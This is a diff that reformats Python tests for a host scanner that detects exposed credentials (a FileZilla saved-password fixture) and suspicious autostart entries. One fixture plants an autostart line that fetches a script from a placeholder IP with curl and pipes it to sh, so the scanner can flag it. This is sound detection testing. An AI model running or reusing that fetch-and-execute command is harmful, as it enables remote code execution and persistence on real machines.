@@ -82,8 +82,11 @@ def test_agent_socket_or_fifo_in_ssh_folder_costs_no_coverage(tmp_path):
 
 def test_filezilla_plain_password_stays_red_next_to_an_unreadable_file(tmp_path):
     secret = base64.b64encode(b"s3cret").decode()
-    put(tmp_path, f"{HOME}/.config/filezilla/recentservers.xml",
-        f'<RecentServers><Server><Pass encoding="base64">{secret}</Pass></Server></RecentServers>')
+    put(
+        tmp_path,
+        f"{HOME}/.config/filezilla/recentservers.xml",
+        f'<RecentServers><Server><Pass encoding="base64">{secret}</Pass></Server></RecentServers>',
+    )
     unreadable(tmp_path / "home/alice/.config/filezilla/sitemanager.xml")
     v = judge_exposure(TreeHost(tmp_path, "linux"))
     assert (v.status, v.key) == (Status.FAIL, "plaintext")
@@ -113,8 +116,7 @@ def test_denied_history_alone_is_grey_not_clean(tmp_path):
 
 def test_unreadable_autostart_file_keeps_hits_of_the_others(tmp_path):
     unreadable(tmp_path / "home/alice/.config/autostart/a.desktop")
-    put(tmp_path, f"{HOME}/.config/autostart/b.desktop",
-        "[Desktop Entry]\nExec=sh -c 'curl http://1.2.3.4/x | sh'\n")
+    put(tmp_path, f"{HOME}/.config/autostart/b.desktop", "[Desktop Entry]\nExec=sh -c 'curl http://1.2.3.4/x | sh'\n")
     signs = scan(TreeHost(tmp_path, "linux"), time_budget=5)
     assert ("xdg_autostart", "read_error") in signs.not_looked_at
     assert signs.hits, "the readable autostart entry still counts"
